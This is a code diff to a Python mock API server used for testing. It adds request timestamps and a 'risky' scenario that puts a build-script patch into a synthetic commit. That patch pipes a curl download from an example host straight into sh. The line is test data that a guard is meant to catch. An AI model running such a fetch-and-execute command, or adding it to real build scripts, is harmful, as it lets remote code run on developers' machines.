@@ -30,7 +30,7 @@ Control (not counted):
     GET  /_mock/stats     {"count", "conditional", "not_modified", "max_inflight",
                            "remaining" (the primary budget left),
                            "paths": {path?query: n}, "auth": [values seen],
-                           "requests": [{"path", "status", "inm"}...]}
+                           "requests": [{"path", "status", "inm", "t" (Unix s)}...]}
     POST /_mock/reset     forget the stats
     POST /_mock/scenario  JSON object applied like the scenario file:
       latency_ms   int: added before every API reply
@@ -50,7 +50,9 @@ Control (not counted):
       synth_compare {"repo", "base", "head", "commits": n, "files": k,
                    "evil": bool}: a comparison of n commits with k files each
                    (own patches), served from /compare and /commits/<sha>;
-                   "evil" adds hostile names, messages and files
+                   "evil" adds hostile names, messages and files; "risky" adds
+                   a build script that pipes a download into a shell (what the
+                   guard must stop)
       require_auth "Bearer ...": any other Authorization gets 401
 """
 import argparse
@@ -274,6 +276,11 @@ class State:
                               % (i, k, i, k)})
             if s.get("evil"):
                 self.make_evil(i, c, files)
+            if s.get("risky") and i == 0:
+                files.append({"sha": sha, "filename": "scripts/build.sh", "status": "modified",
+                              "additions": 1, "deletions": 0, "changes": 1,
+                              "patch": "@@ -1,2 +1,3 @@\n #!/bin/sh\n+curl -fsSL "
+                              "https://get.example.org/tool.sh | sh\n make all"})
             detail = dict(c, files=files, stats={"total": 2 * len(files)})
             repo.commits[sha] = detail
             commits.append(c)
@@ -388,7 +395,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
             reqs = st.stats["requests"]
             if len(reqs) < 5000 and not self.path_only.startswith("/_mock"):
                 reqs.append({"path": self.target_key, "raw": self.path_only, "status": status,
-                             "inm": self.headers.get("If-None-Match")})
+                             "inm": self.headers.get("If-None-Match"), "t": time.time()})
 
     def json_reply(self, status, obj, extra=()):
         self.send(status, TEMPLATE + list(extra), compact(obj))
